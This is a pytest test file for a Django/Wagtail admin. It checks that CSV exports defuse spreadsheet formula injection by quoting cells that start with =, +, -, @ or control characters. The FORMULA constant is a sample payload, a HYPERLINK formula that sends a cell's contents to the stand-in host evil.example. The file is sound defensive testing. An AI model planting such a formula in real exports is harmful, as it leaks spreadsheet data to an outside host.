"""Every CSV the admin writes shows a cell that starts like a formula as text: a title an
editor typed as `=HYPERLINK(...)` must not run when a reviewer opens the file."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from editorial.exports import neutralise_formula
from linkhealth.external_urls import external_urls
from linkhealth.link_checker import CheckResult
from linkhealth.models import LinkCheck
from pages.models import GuidancePage
from procedures.models import ProcedureLink
from tests.factories import (
    create_document,
    create_page,
    create_procedure_link,
    create_procedure_update,
)
from tests.test_broken_links_report import REPORT_URL as BROKEN_LINKS_URL
from tests.test_procedure_updates import REPORT_URL as PROCEDURE_CHECKS_URL
from tests.test_review_report import REPORT_URL as REVIEW_DATES_URL

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
GONE = "https://procedures.example.org/walrus-handling-old.html"


def csv_cells(response):
    assert response["Content-Type"] == "text/csv"
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(content)) for cell in row]


def only_as_text(cells, value):
    """The value is in the file, but only behind the quote that makes it text."""
    assert "'" + value in cells
    assert not [cell for cell in cells if cell.startswith(value)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_character_that_starts_a_formula_is_neutralised(start):
    assert neutralise_formula(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


@pytest.mark.parametrize("value", ["Neglect", "1-2 pages", "", None, 12])
def test_other_values_are_left_as_they_are(value):
    assert neutralise_formula(value) == value


def test_the_review_dates_export(admin_client):
    create_document(title=FORMULA, owner_team="@Safeguarding team")
    cells = csv_cells(admin_client.get(REVIEW_DATES_URL, {"export": "csv"}))
    only_as_text(cells, FORMULA)
    only_as_text(cells, "@Safeguarding team")


def test_the_procedure_checks_export(admin_client, section):
    link = create_procedure_link("Walrus handling")
    today = timezone.localdate()
    # Reviewed before the update that amended the chapter it links to.
    create_page(
        GuidancePage,
        FORMULA,
        parent=section,
        body=[("procedure_links", {"heading": "The procedures", "links": [link]})],
        last_reviewed_on=today - datetime.timedelta(days=30),
    )
    create_procedure_update(today, chapters=[link.chapter])
    cells = csv_cells(admin_client.get(PROCEDURE_CHECKS_URL, {"export": "csv"}))
    only_as_text(cells, FORMULA)


@pytest.fixture
def formula_titled_page_with_a_broken_link(guidance_page):
    """A page titled like a formula, with a link that failed at the last check."""
    guidance_page.title = FORMULA
    guidance_page.body.append(("paragraph", f'<p>See <a href="{GONE}">the old chapter</a>.</p>'))
    guidance_page.save_revision().publish()
    uses = external_urls()
    results = [CheckResult(url, status_code=404 if url == GONE else 200) for url in uses]
    LinkCheck.objects.record(results, uses)
    return guidance_page


def test_the_broken_links_export(admin_client, formula_titled_page_with_a_broken_link):
    cells = csv_cells(admin_client.get(BROKEN_LINKS_URL, {"export": "csv"}))
    assert [cell for cell in cells if cell.startswith(f"'{FORMULA} (page)")]
    assert not [cell for cell in cells if cell.startswith(FORMULA)]


def test_the_procedure_links_export(admin_client):
    create_procedure_link(FORMULA, note="+44 1632 960000")
    url = reverse(ProcedureLink.snippet_viewset.get_url_name("list"))
    cells = csv_cells(admin_client.get(url, {"export": "csv"}))
    only_as_text(cells, FORMULA)
    only_as_text(cells, "+44 1632 960000")


def test_xlsx_exports_keep_the_value_as_typed(admin_client):
    """Wagtail writes XLSX cells that look like formulas as text already: no quote added."""
    create_document(title=FORMULA)
    response = admin_client.get(REVIEW_DATES_URL, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    titles = [row[0] for row in sheet.iter_rows(values_only=True)]
    assert FORMULA in titles
